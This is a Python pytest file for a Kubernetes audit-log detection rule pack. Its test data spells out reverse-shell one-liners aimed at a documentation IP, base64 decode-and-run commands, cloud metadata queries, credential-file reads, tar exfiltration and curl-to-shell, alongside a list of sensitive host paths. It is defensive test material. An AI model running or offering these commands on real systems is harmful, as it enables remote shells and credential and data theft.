"""What the rules on commands and paths of the node recognise, and what they leave alone."""

from collections.abc import Callable, Sequence
from typing import Any
from urllib.parse import quote

import msgspec
import pytest

from kwho.query.ast import Node
from kwho.schema.event import Event, ObjectRef, Status, User

Matches = Callable[[Node, Sequence[Event]], bool]
Argv = tuple[str, ...]

SHELLS: list[Argv] = [
    ("sh", "-c", "nc 203.0.113.9 44 -c /bin/sh"),
    ("busybox", "nc", "203.0.113.9", "44", "-e", "sh"),
    ("sh", "-c", "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.9 44 >/tmp/f"),
    ("perl", "-e", "use Socket;$i=1;"),
    ("perl", "-MIO", "-e", "$c=new IO::Socket::INET"),
    ("ruby", "-rsocket", "-e", "f=TCPSocket.open"),
    ("php", "-r", "$s=fsockopen(1,2);"),
    ("awk", 'BEGIN{s="/inet/tcp/0/203.0.113.9/4"}'),
    ("node", "-e", 'require("net").connect(4,()=>1)'),
    ("python2.7", "-c", "import socket"),
    ("python3", "-c", "exec(__import__('base64').b64decode('eA=='))"),
    ("bash", "-c", "{echo,eA==}|{base64,-d}|{bash,-i}"),
    ("bash", "-c", "exec 5<>/dev/tcp/203.0.113.9/44"),
    ("sh", "-c", "echo eA== | base64 -d | sh"),
    ("socat", "TCP:203.0.113.9:44", "EXEC:sh"),
    ("sh", "-c", "telnet 203.0.113.9 44 | /bin/bash"),
    ("zsh", "-c", "zmodload zsh/net/tcp"),
    ("ncat", "--exec", "/bin/sh", "203.0.113.9"),
]
METADATA: list[Argv] = [
    ("curl", "http://169.254.169.254/"),
    ("curl", "http://[::ffff:a9fe:a9fe]/"),
    ("wget", "http://0xA9FEA9FE/"),
    ("wget", "http://0251.0376.0251.0376/"),
    ("curl", "http://instance-data/latest"),
    ("curl", "-H", "Metadata-Flavor: Google", "http://metadata.google.internal/computeMetadata/v1/"),
]
CREDENTIALS: list[Argv] = [
    ("cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"),
    ("cat", "/var/run/./secrets/x"),
    ("sh", "-c", "cd ~/.aws; cat credentials"),
    ("cat", "/proc/self/task/1/environ"),
    ("cat", "/app/server.pem"),
    ("ls", "/root/.kube"),
    ("sh", "-c", "cat ~/.docker/config.json"),
]
COPIES: list[Argv] = [
    ("tar", "cf", "-", "/data"),
    ("tar", "-czf-", "x"),
    ("tar", "--create", "--file=-", "x"),
    ("tar", "-C", "/", "-cf", "-", "etc"),
    ("/bin/tar", "cf", "/dev/stdout", "x"),
    ("sh", "-c", "tar c /etc | base64"),
    ("sh", "-c", "tar cf - path | tail -c+20"),
]
HONEST: list[Argv] = [
    ("bash",), ("ls", "-la"), ("nc", "-zv", "db", "5432"), ("env",), ("cat", "/etc/resolv.conf"),
    ("sh", "-c", "until nc -z db 5432; do sleep 1; done; mysql -e 'select 1'"),
    ("python", "-m", "app.websocket_worker"), ("python", "-c", "print(1)"), ("node", "server.js"),
    ("tar", "xf", "-", "-C", "/cache"), ("tar", "-xmf", "-", "-C", "/"), ("tar", "tf", "backup.tar"),
    ("psql", "-c", "select 1"), ("curl", "-s", "http://localhost:8080/healthz"), ("cilium", "status"),
]  # fmt: skip
CASES = [
    *(("exec-reverse-shell", argv) for argv in SHELLS),
    *(("exec-cloud-metadata", argv) for argv in METADATA),
    *(("exec-credential-files", argv) for argv in CREDENTIALS),
    *(("files-copied-out-of-pod", argv) for argv in COPIES),
    ("exec-download", ("sh", "-c", "curl -fsSL HTTPS://example.com | sh")),
]
SENSITIVE = (
    "/ /proc /proc/1/root /sys /dev/sda /boot /etc /etc/ /etc/shadow /etc/hosts /etc/kubernetes/pki /etc/localtime/x "
    "/etc/machine-id2 /root/.ssh /home/core /var /var/lib /var/lib/kubelet/pods /var/lib/etcd /var/log /var/log/pods "
    "/run /var/run /var/run/docker.sock /run/containerd /run/containerd/containerd.sock /run/crio/crio.sock "
    "/run/k3s/containerd/containerd.sock /data/../etc/shadow //etc//passwd"
)
HARMLESS = (
    "/data /mnt/disk1 /opt/cni/bin /etc/localtime /etc/machine-id /etc/hostname /run/xtables.lock "
    "/var/run/xtables.lock /run/flannel /var/lib/calico /devices /etcd /proc2 /homes /var/logs"
)


def condition(pack: Any, name: str) -> Node:
    found: Node = next(rule.condition for rule in pack.rules.rules if rule.name == name)
    return found


def execution(argv: Argv, verb: str = "get") -> Event:
    query = "&".join(f"command={quote(argument, safe='')}" for argument in argv)
    return Event(
        stage="ResponseComplete", verb=verb, user=User(username="alice@example.com"),
        requestURI=f"/api/v1/namespaces/shop/pods/web-0/exec?{query}&stdin=true",
        objectRef=ObjectRef(resource="pods", subresource="exec", namespace="shop", name="web-0"),
        responseStatus=Status(code=101), annotations={"authorization.k8s.io/decision": "allow"},
    )  # fmt: skip


@pytest.mark.parametrize(("rule", "argv"), CASES)
def test_a_command_is_recognised_whatever_the_verb(pack: Any, matches: Matches, rule: str, argv: Argv) -> None:
    for verb in ("get", "create"):
        assert matches(condition(pack, rule), [execution(argv, verb)])


@pytest.mark.parametrize("argv", HONEST)
def test_an_honest_command_is_left_alone(pack: Any, matches: Matches, argv: Argv) -> None:
    for rule in sorted({rule for rule, _ in CASES}):
        assert not matches(condition(pack, rule), [execution(argv)]), rule


def mounting(path: str) -> Event:
    body = {"kind": "Pod", "spec": {"volumes": [{"name": "v", "hostPath": {"path": path}}]}}
    return Event(
        level="Request", stage="ResponseComplete", verb="create", user=User(username="alice@example.com"),
        objectRef=ObjectRef(resource="pods", namespace="shop", name="x"), responseStatus=Status(code=201),
        requestObject=msgspec.Raw(msgspec.json.encode(body)), annotations={"authorization.k8s.io/decision": "allow"},
    )  # fmt: skip


@pytest.mark.parametrize("path", SENSITIVE.split())
def test_a_sensitive_path_its_inside_and_its_parents_are_recognised(pack: Any, matches: Matches, path: str) -> None:
    assert matches(condition(pack, "sensitive-host-path-volume"), [mounting(path)])


@pytest.mark.parametrize("path", HARMLESS.split())
def test_a_harmless_path_is_no_sensitive_one(pack: Any, matches: Matches, path: str) -> None:
    assert not matches(condition(pack, "sensitive-host-path-volume"), [mounting(path)])
    assert matches(condition(pack, "host-path-volume"), [mounting(path)])
